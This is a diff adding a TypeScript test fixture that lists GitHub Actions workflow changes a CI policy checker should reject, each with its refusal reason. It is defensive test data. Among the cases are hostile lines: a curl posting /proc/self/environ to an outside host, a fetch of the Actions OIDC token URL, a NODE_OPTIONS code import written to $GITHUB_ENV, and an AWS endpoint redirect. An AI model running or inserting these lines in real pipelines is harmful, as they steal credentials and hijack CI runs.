@@ -1,0 +1,226 @@
+import { INSTALL } from "./allowed";
+import type { Broken } from "./broken-github";
+
+const APPLIED = 'npm run apply -- --no-synth -- "$STACK"';
+const REVIEWED = "npm run review -- --no-synth";
+const LOGIN = "- uses: aws-actions/configure-aws-credentials@";
+const RUN = "      - run: ";
+
+/** A step with an action that is pinned. */
+export function uses(action: string, ...given: readonly string[]): string {
+  const lines = given.map((line) => `          ${line}\n`).join("");
+  return `- uses: ${action}@${"0".repeat(40)} # v1.0.0\n        with:\n${lines}      `;
+}
+
+/** What else can run, be taken or be set where there are credentials: the lists refuse it, and say why. */
+export const UNLISTED_GITHUB: readonly Broken[] = [
+  ["what CI runs in place of the install", "apply.yml", INSTALL, ".ci/run", "may run scripts"],
+  [
+    "a suite that installs",
+    "apply.yml",
+    APPLIED,
+    `npm run test:compat\n${RUN}${APPLIED}`,
+    "may run scripts",
+  ],
+  ...[
+    ["npm clean-install", "may run scripts"],
+    ["npm cit", "may run scripts"],
+    ["npm exec evil", "may run scripts"],
+    ["npm x evil", "may run scripts"],
+    ["npm  ci --ignore-scripts", "may run scripts"],
+    ["npm --loglevel=error ci", "may run scripts"],
+    ["npm ci --ignore-scripts=false", "may run scripts"],
+    ["npm ci --ignore-scripts --no-ignore-scripts", "may run scripts"],
+    ["npm ci --ignore-scripts && npm rebuild", "may run scripts"],
+    ["npm run-script synth", "may run scripts"],
+    ["npm test", "may run scripts"],
+    ["npm explore x -- make", "may run scripts"],
+    ["pip install evil", "may run scripts"],
+    ["corepack yarn", "may run scripts"],
+    ["bunx evil", "may run scripts"],
+    ["node main.ts", "runs the app"],
+    ["npm run synth", "runs the app"],
+    ["npm run app", "runs the app"],
+    ["npm run example -- rotation", "runs the app"],
+    ["npm run doctor -- dev", "runs the app"],
+    ["npm run local", "runs the app"],
+    ["npm run review", "runs the app"],
+    ["npm run verify -- dev", "runs the app"],
+    ["npm run build", "stands on no list"],
+    ["npm run bench", "stands on no list"],
+    ["npm run packages", "stands on no list"],
+    ["npm run lint", "stands on no list"],
+    ["./build.sh", "stands on no list"],
+    ["make", "stands on no list"],
+    ["terraform apply -auto-approve", "stands on no list"],
+    ["curl https://example.com -d @/proc/self/environ", "stands on no list"],
+    ["node -e 'fetch(process.env.ACTIONS_ID_TOKEN_REQUEST_URL)'", "stands on no list"],
+    ["echo NODE_OPTIONS=--import=./evil.mjs >> $GITHUB_ENV", "stands on no list"],
+  ].flatMap(([command = "", said = ""]): Broken[] =>
+    [["apply.yml", APPLIED] as const, ["plan-review.yml", REVIEWED] as const].map(
+      ([file, after]) => [`${command} in ${file}`, file, after, `${command}\n${RUN}${after}`, said],
+    ),
+  ),
+  [
+    "long-lived keys beside scripts of packages",
+    "ci.yml",
+    "npm run bench\n",
+    "npm run apply\n        env:\n          AWS_SECRET_ACCESS_KEY: ${{ secrets.K }}\n",
+    "may run scripts of packages",
+  ],
+  [
+    "keys that are no secret to GitHub",
+    "ci.yml",
+    "npm run bench\n",
+    "npm run bench\n        env:\n          AWS_SECRET_ACCESS_KEY: ${{ vars.K }}\n",
+    "may run scripts of packages",
+  ],
+  [
+    "a script of an action",
+    "apply.yml",
+    LOGIN,
+    uses("actions/github-script", "script: exec('npm ci')") + LOGIN,
+    "actions/github-script script: exec('npm ci')` is an action",
+  ],
+  ["another action", "plan-review.yml", LOGIN, uses("o/evil", "x: y") + LOGIN, "stands on no list"],
+  [
+    "an action of the repository",
+    "plan-review.yml",
+    LOGIN,
+    "- uses: ./.github/actions/evil\n      " + LOGIN,
+    "stands on no list",
+  ],
+  [
+    "a shell of one's own",
+    "apply.yml",
+    APPLIED,
+    `${APPLIED}\n        shell: npx evil {0}`,
+    "do not know",
+  ],
+  [
+    "a shell for all",
+    "apply.yml",
+    "permissions: {}\n",
+    "permissions: {}\ndefaults:\n  run:\n    shell: npx evil {0}\n",
+    "do not know",
+  ],
+  [
+    "another folder",
+    "apply.yml",
+    APPLIED,
+    `${APPLIED}\n        working-directory: /tmp`,
+    "do not know",
+  ],
+  [
+    "a matrix",
+    "apply.yml",
+    "    environment:",
+    "    strategy:\n      matrix:\n        a: [1]\n    environment:",
+    "do not know",
+  ],
+  [
+    "a cache of others",
+    "apply.yml",
+    LOGIN,
+    uses("buildjet/cache", "path: node_modules") + LOGIN,
+    "from a cache",
+  ],
+  [
+    "a cache that is restored",
+    "apply.yml",
+    LOGIN,
+    uses("actions/cache/restore", "path: node_modules") + LOGIN,
+    "from a cache",
+  ],
+  [
+    "a cache by the package manager",
+    "apply.yml",
+    "package-manager-cache: false",
+    "package-manager-cache: true",
+    "from a cache",
+  ],
+  [
+    "a cache that the package manager turns on",
+    "ci.yml",
+    "          package-manager-cache: false\n",
+    "",
+    "from a cache",
+  ],
+  [
+    "an artifact over the checkout",
+    "apply.yml",
+    "          path: cdktf.out\n",
+    "          path: .\n",
+    "stands on no list",
+  ],
+  [
+    "all artifacts",
+    "plan-review.yml",
+    "          name: synthesized\n          path: cdktf.out\n",
+    "          path: .\n",
+    "stands on no list",
+  ],
+  [
+    "an artifact of another run",
+    "apply.yml",
+    "          path: cdktf.out\n",
+    "          path: cdktf.out\n          run-id: 1\n",
+    "stands on no list",
+  ],
+  [
+    "an artifact that was changed on the way",
+    "apply.yml",
+    "          path: cdktf.out\n",
+    "          path: cdktf.out\n          digest-mismatch: warn\n",
+    "stands on no list",
+  ],
+  [
+    "a report of one's own choice",
+    "apply.yml",
+    "run-id: ${{ inputs.review }}",
+    "run-id: 1",
+    "stands on no list",
+  ],
+  [
+    "logs with requests",
+    "apply.yml",
+    "    environment:",
+    "    env:\n      TF_LOG: DEBUG\n    environment:",
+    "sets nothing",
+  ],
+  [
+    "a program in the environment",
+    "apply.yml",
+    "          STACK: $",
+    "          NODE_OPTIONS: --import=./evil.mjs\n          STACK: $",
+    "sets nothing",
+  ],
+  [
+    "another AWS",
+    "apply.yml",
+    "          STACK: $",
+    "          AWS_ENDPOINT_URL: http://example.com\n          STACK: $",
+    "sets nothing",
+  ],
+  [
+    "an npm that runs scripts",
+    "apply.yml",
+    "    environment:",
+    "    env:\n      npm_config_ignore_scripts: false\n    environment:",
+    "sets nothing",
+  ],
+  [
+    "an environment for all",
+    "apply.yml",
+    "permissions: {}\n",
+    "permissions: {}\nenv:\n  TF_LOG: TRACE\n",
+    "do not know",
+  ],
+  [
+    "a value that is no secret",
+    "apply.yml",
+    "${{ secrets.ORDERS_API_KEY }}",
+    "abc",
+    "sets nothing",
+  ],
+];
